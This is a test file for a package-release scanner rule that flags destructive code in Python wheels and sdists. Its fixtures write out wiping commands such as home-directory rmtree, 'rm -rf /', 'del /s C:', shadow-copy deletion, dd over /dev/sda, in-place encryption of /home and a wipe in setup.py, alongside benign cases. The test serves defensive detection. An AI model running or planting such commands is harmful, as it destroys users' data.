import { destructiveAction } from '../../src/rules/destructive-action.js';
import { sdist } from '../support/sdist.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;
const WIPE = 'import os, shutil\nshutil.rmtree(os.path.expanduser("~"))\n';

const DESTRUCTIVE: readonly { name: string; source: string; says: string }[] = [
  { name: 'the home directory', source: WIPE, says: 'home: ~' },
  {
    name: 'every file of a walk',
    source:
      'import os\nfor root, dirs, files in os.walk(os.path.expanduser("~")):\n    for name in files:\n        os.remove(os.path.join(root, name))\n',
    says: 'home: ~/*',
  },
  {
    name: 'pathlib',
    source: 'from pathlib import Path\nfor p in Path.home().rglob("*"):\n    p.unlink()\n',
    says: 'home: ~/*',
  },
  {
    name: 'documents, by glob and an environment variable',
    source:
      'import glob, os\nfor p in glob.glob(os.environ["USERPROFILE"] + "/Documents/**", recursive=True):\n    os.unlink(p)\n',
    says: 'documents: ~/Documents',
  },
  {
    name: 'files encrypted in place',
    source:
      'import os\nfrom cryptography.fernet import Fernet\nbox = Fernet(Fernet.generate_key())\nfor root, _, files in os.walk("/home"):\n    for name in files:\n        path = os.path.join(root, name)\n        data = open(path, "rb").read()\n        with open(path, "wb") as f:\n            f.write(box.encrypt(data))\n',
    says: 'home: /home/*',
  },
  {
    name: 'files renamed as locked',
    source:
      'import os\nfor root, _, files in os.walk(os.path.expanduser("~/Desktop")):\n    for name in files:\n        os.rename(os.path.join(root, name), os.path.join(root, name) + ".locked")\n',
    says: 'locked documents: ~/Desktop',
  },
  { name: 'rm -rf', source: 'import os\nos.system("rm -rf ~/* 2>/dev/null")\n', says: 'home: ~/*' },
  {
    name: 'rm as a list',
    source: 'import subprocess\nsubprocess.run(["rm", "-r", "-f", "--no-preserve-root", "/"])\n',
    says: 'root: /',
  },
  {
    name: 'del /s on a drive',
    source: 'import os\nos.system("del /f /s /q C:\\\\*")\n',
    says: 'root: C:/*',
  },
  {
    name: 'shadow copies',
    source: 'import subprocess\nsubprocess.run("vssadmin delete shadows /all /quiet", shell=True)\n',
    says: 'shadow copies',
  },
  {
    name: 'a drive',
    source: 'import subprocess\nsubprocess.call(["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"])\n',
    says: 'drive: dd',
  },
  {
    name: 'a drive opened for writing',
    source: 'with open("/dev/sda", "wb") as f:\n    f.write(bytes(512))\n',
    says: 'drive: /dev/sda',
  },
  {
    name: 'find -delete',
    source: 'import os\nos.popen("find $HOME -type f -delete")\n',
    says: 'home: ~',
  },
];

const ORDINARY: readonly { name: string; source: string }[] = [
  {
    name: 'a cache of its own',
    source: 'import os, shutil\nshutil.rmtree(os.path.join(os.path.expanduser("~"), ".cache", "demo"))\n',
  },
  {
    name: 'a directory of the home that its caller names',
    source:
      'import shutil\nfrom pathlib import Path\ndef clear(name):\n    shutil.rmtree(Path.home() / name)\nclear(NAME)\n',
  },
  { name: 'build output', source: 'import os\nos.system("rm -rf build dist *.egg-info")\n' },
  {
    name: 'a temporary directory',
    source: 'import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n',
  },
  {
    name: 'bytecode below its own package',
    source:
      'import os\nfor root, _, files in os.walk(os.path.dirname(__file__)):\n    for name in files:\n        if name.endswith(".pyc"):\n            os.remove(os.path.join(root, name))\n',
  },
  {
    name: 'a walk that reads',
    source: 'import os\nfor root, _, files in os.walk(os.path.expanduser("~")):\n    print(root, files)\n',
  },
  {
    name: 'one file of the home',
    source: 'import os\nos.remove(os.path.expanduser("~/.demo.lock"))\n',
  },
  {
    name: 'logs by pattern',
    source: 'import glob, os\nfor p in glob.glob("/var/log/demo/*.log"):\n    os.remove(p)\n',
  },
  { name: 'a format that is none', source: 'import subprocess\nsubprocess.run(["ruff", "format", "c:demo.py"])\n' },
];

releaseTest(destructiveAction, {
  flags: [
    ...DESTRUCTIVE.map(({ name, source, says }) => ({
      name: `${name}, on import`,
      given: { base: wheel(), head: init(source) },
      level: 'block' as const,
      says,
    })),
    { name: 'when called', given: { base: wheel(), head: init(inFunction(WIPE)) }, level: 'warn' },
    { name: 'a first release, on import', given: { head: init(WIPE) }, level: 'block' },
    { name: 'a first release, when called', given: { head: init(inFunction(WIPE)) }, level: 'note' },
    {
      name: 'while it is installed',
      given: {
        base: sdist(),
        head: sdist({ 'setup.py': `from setuptools import setup\n${WIPE}setup(name="demo", version="1.0")\n` }),
      },
      level: 'block',
      says: 'while it is installed',
    },
    {
      name: 'the running file itself',
      given: { base: wheel(), head: init('import os\nos.remove(__file__)\n') },
      level: 'warn',
      says: 'itself',
    },
  ],
  allows: [
    ...ORDINARY.map(({ name, source }) => ({ name, given: { base: wheel(), head: init(source) } })),
    { name: 'what the base did too', given: { base: init(WIPE), head: init(`V = 2\n${WIPE}`) } },
    {
      name: 'in tests',
      given: { base: wheel(), head: wheel({ 'tests/test_demo.py': inFunction(WIPE) }) },
      atMost: 'note',
    },
  ],
});
